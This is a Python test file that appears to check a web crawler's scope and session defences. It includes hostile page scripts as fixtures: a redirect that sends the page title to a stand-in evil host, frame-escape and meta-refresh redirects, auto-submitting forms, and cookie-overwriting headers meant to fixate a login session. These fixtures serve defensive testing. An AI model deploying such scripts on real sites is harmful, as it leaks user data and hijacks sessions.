"""L13, X-N7, C10: where a page goes by itself, what it sends by forms, and what other servers set for its host."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest

from tests.acceptance.test_l13_origins import crawl, find
from tests.hostile_login_site import APP, EVIL, HostileLoginSite, Page
from tests.page_wall import need_browser

pytestmark = pytest.mark.extended

_WORDS: Final = " ".join(f"word{number}" for number in range(40))
#: Pages whose scripts lead to a host outside the boundary.
MOVES: Final = {
    "/location": "location = 'OUTSIDE/?t=' + document.title",
    "/link": "const a = document.createElement('a'); a.href = 'OUTSIDE/'; document.body.append(a); a.click()",
    "/twice": "location = 'OUTSIDE/a'; setTimeout(() => { location = 'OUTSIDE/b' }, 30)",
    "/refresh": "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=OUTSIDE/';"
    "document.head.append(m)",
    "/top": "const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.eval(\"top.location = 'OUTSIDE/'\")",
}
#: Pages with a form that a script, or a click, sends.
FORMS: Final = {
    "/get": "<form action=/sent><input name=q value=1></form><script>document.forms[0].submit()</script>",
    "/post": "<form method=post action=/sent><input name=q value=1></form><script>document.forms[0].submit()</script>",
    "/frame": "<iframe srcdoc='<form action=/sent target=_self><input name=q></form><script>document.forms[0].submit()</script>'></iframe>",
    "/click": "<form action=/sent><button>Go</button></form>",
}


@pytest.fixture
def site() -> Iterator[HostileLoginSite]:
    need_browser()
    with HostileLoginSite() as running:
        yield running


@pytest.fixture
def other() -> Iterator[HostileLoginSite]:
    """Another server at the same hosts, at another port."""
    with HostileLoginSite() as running:
        yield running


def test_l13_pages_when_their_scripts_lead_outside_then_nothing_is_sent_there_and_the_rule_is_named(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    outside = f"http://{EVIL}:{site.port}"
    for path, script in MOVES.items():
        code = script.replace("OUTSIDE", outside)
        site.put(path, Page(f"<title>own</title><p>{_WORDS}</p><script>{code}</script>"))
    site.put("/", Page("<title>evil</title><p>words of others</p>"), EVIL)

    rows = crawl(tmp_path, site, *MOVES)

    assert {path: row["code"] for path, row in rows.items()} == dict.fromkeys(MOVES, 953)
    assert all("scope.include_hosts" in row["rule"] for row in rows.values())
    assert not site.seen(EVIL)


def test_c10_page_when_a_click_follows_a_link_then_the_page_stays_and_the_link_is_one_of_it(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    script = "<script>document.getElementById('go').onclick = () => { location = '/by-script' }</script>"
    for path, element in {"/a": "<a id=go href=/next>Go</a>", "/b": f"<button id=go>Go</button>{script}"}.items():
        site.put(path, Page(f"<title>{path}</title><p>own{path[1:]} {_WORDS}</p>{element}<a href=/last>last</a>"))
    for path in ("/next", "/last", "/by-script"):
        site.put(path, Page(f"<title>{path}</title><p>{path} {_WORDS} {path}{path}</p>"))

    rows = crawl(tmp_path, site, "/a", "/b", render={"actions": [{"click": "#go"}]})

    assert {rows[path]["code"] for path in ("/a", "/b")} == {200}
    assert {"/next", "/last", "/by-script"} <= set(rows)
    assert (find(tmp_path, "owna"), find(tmp_path, "ownb")) == (["a"], ["b"])


def test_l13_forms_when_a_page_or_a_frame_sends_them_then_no_server_gets_any(
    tmp_path: Path, site: HostileLoginSite
) -> None:
    for path, body in FORMS.items():
        site.put(path, Page(f"<title>{path}</title><p>own{path[1:]} {_WORDS}</p>{body}"))

    rows = crawl(tmp_path, site, *FORMS, render={"actions": [{"match": "*/click", "click": "button"}]})

    assert {path: rows[path]["code"] for path in FORMS} == dict.fromkeys(FORMS, 200)
    assert not [one.path for one in site.seen(APP) if one.path.startswith("/sent")]
    assert all(find(tmp_path, f"own{path[1:]}") == [path[1:]] for path in FORMS)


def test_n7_cookies_when_another_port_sets_some_for_the_host_then_the_login_keeps_its_own_and_sends_it_none(
    tmp_path: Path, site: HostileLoginSite, other: HostileLoginSite
) -> None:
    evil = f"http://{APP}:{other.port}"
    taken = [("Set-Cookie", "sid=theirs; Path=/"), ("Set-Cookie", "sid=theirs; Path=/; Domain=acme.test")]
    other.put("/set.js", Page("", headers=[*taken, ("Cache-Control", "no-store")], kind="text/javascript"))
    other.put("/see.js", Page("", headers=[("Cache-Control", "no-store")], kind="text/javascript"))
    see = f"<script>document.cookie = 'made=here; path=/'; document.write('<script src={evil}/see.js></' + 'script>')</script>"
    site.put(
        "/first", Page(f"<title>1</title><p>{_WORDS}</p><script src={evil}/set.js></script>{see}<a href=/second>2</a>")
    )
    site.put("/second", Page(f"<title>2</title><p>{_WORDS} second</p>"))
    login = {"type": "cookies", "fields": {"sid": "ours"}}

    crawl(tmp_path, site, "/first", login=login, render={"allow_hosts": [APP]})

    asked = {one.path for one in other.seen(APP)}
    assert {"/set.js", "/see.js"} <= asked
    sent = [one.headers.get("cookie", "") for one in site.seen(APP) if one.path == "/second"]
    assert sent
    assert all("sid=ours" in header and "theirs" not in header for header in sent)
    assert all(not one.headers.get("cookie") for one in other.seen(APP) if one.path == "/set.js")
    assert all(
        "ours" not in one.headers.get("cookie", "") and "made" not in one.headers.get("cookie", "")
        for one in other.seen(APP)
    )
